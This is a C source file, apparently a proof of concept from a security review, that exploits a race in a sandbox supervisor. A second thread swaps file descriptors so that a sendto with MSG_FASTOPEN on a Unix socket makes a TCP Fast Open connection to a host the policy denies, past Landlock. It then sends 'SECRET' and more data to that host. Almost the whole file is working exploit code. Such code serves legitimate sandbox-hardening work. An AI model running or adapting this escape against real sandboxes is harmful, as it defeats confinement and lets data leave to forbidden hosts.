/* tfo_swap: the attack a review found on the first rebuilt `run --kernel`:
 * a unix socket's sendto(MSG_FASTOPEN, inet name) let go on, while a second
 * thread swaps in a TCP socket of the supervisor's left unconnected, makes
 * a Fast Open connect to any host (Landlock sees no connect there).
 *
 * tfo_swap MODE ALLOWED_IP ALLOWED_PORT DENIED_IP DENIED_PORT ROUNDS
 * MODE refused: nonblocking connect to an allowed host:port nobody listens on
 *   (supervisor installs its outside socket, connect then fails -> CLOSE)
 * MODE unspec: blocking connect to an allowed listener, then race
 *   connect(AF_UNSPEC) on a unix socket swapped for it (-> CLOSE)
 * Then: race sendto(MSG_FASTOPEN, denied) on a unix socket swapped for it. */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <poll.h>
#include <pthread.h>
#include <stdatomic.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <unistd.h>

static atomic_int go;
static int slot, a_fd, b_fd;
static void *swapper(void *u) { (void)u; while (atomic_load(&go)) { dup2(a_fd, slot); dup2(b_fd, slot); } return NULL; }

static int state(int fd) { struct tcp_info i; socklen_t n = sizeof i; memset(&i, 0, sizeof i);
	if (getsockopt(fd, IPPROTO_TCP, TCP_INFO, &i, &n) != 0)
		return -1;
	return i.tcpi_state; }

static struct sockaddr_in sa(const char *h, const char *p) { struct sockaddr_in a = { .sin_family = AF_INET, .sin_port = htons(atoi(p)) };
	inet_pton(AF_INET, h, &a.sin_addr); return a; }

int main(int argc, char **argv)
{
	if (argc != 7) { fprintf(stderr, "usage\n"); return 2; }
	struct sockaddr_in allowed = sa(argv[2], argv[3]), denied = sa(argv[4], argv[5]);
	int rounds = atoi(argv[6]);
	int t = socket(AF_INET, SOCK_STREAM | (strcmp(argv[1], "refused") == 0 ? SOCK_NONBLOCK : 0), 0);
	int rc = connect(t, (struct sockaddr *)&allowed, sizeof allowed);
	printf("connect allowed: rc=%d errno=%s state=%d\n", rc, rc ? strerror(errno) : "-", state(t));
	if (strcmp(argv[1], "refused") == 0) {
		struct pollfd p = { .fd = t, .events = POLLOUT }; poll(&p, 1, 2000);
		int e = 0; socklen_t n = sizeof e; getsockopt(t, SOL_SOCKET, SO_ERROR, &e, &n);
		printf("after poll: so_error=%s state=%d\n", strerror(e), state(t));
	}
	int pair[2]; socketpair(AF_UNIX, SOCK_DGRAM, 0, pair);
	if (strcmp(argv[1], "unspec") == 0) {
		struct sockaddr unspec = { .sa_family = AF_UNSPEC };
		a_fd = pair[0]; b_fd = t; slot = dup(pair[0]);
		int won = 0;
		for (int i = 0; i < rounds && !won; i++) {
			atomic_store(&go, 1); pthread_t th; pthread_create(&th, NULL, swapper, NULL);
			for (int k = 0; k < 200 && state(t) != TCP_CLOSE; k++)
				syscall(SYS_connect, slot, &unspec, sizeof unspec);
			atomic_store(&go, 0); pthread_join(th, NULL);
			won = state(t) == TCP_CLOSE;
		}
		printf("unspec: state=%d (7=CLOSE)\n", state(t));
		close(slot);
	}
	if (state(t) != TCP_CLOSE) { printf("not CLOSE, giving up\n"); return 1; }
	fcntl(t, F_SETFL, fcntl(t, F_GETFL) & ~O_NONBLOCK);
	a_fd = pair[0]; b_fd = t; slot = dup(pair[0]);
	int won = 0, tries = 0;
	for (int i = 0; i < rounds && !won; i++) {
		atomic_store(&go, 1); pthread_t th; pthread_create(&th, NULL, swapper, NULL);
		for (int k = 0; k < 200 && !won; k++, tries++) {
			long r = syscall(SYS_sendto, slot, "SECRET", 6, MSG_FASTOPEN, &denied, sizeof denied);
			int s = state(t);
			if (s != TCP_CLOSE) { won = 1; printf("sendto rc=%ld errno=%s state=%d after %d tries\n", r, r < 0 ? strerror(errno) : "-", s, tries); }
		}
		atomic_store(&go, 0); pthread_join(th, NULL);
	}
	printf("tfo race: %s (tries %d), state=%d\n", won ? "WON" : "lost", tries, state(t));
	if (won) { const char m[] = "MORE-DATA"; long r = write(t, m, sizeof m - 1); printf("write rc=%ld\n", r); sleep(1); }
	return 0;
}
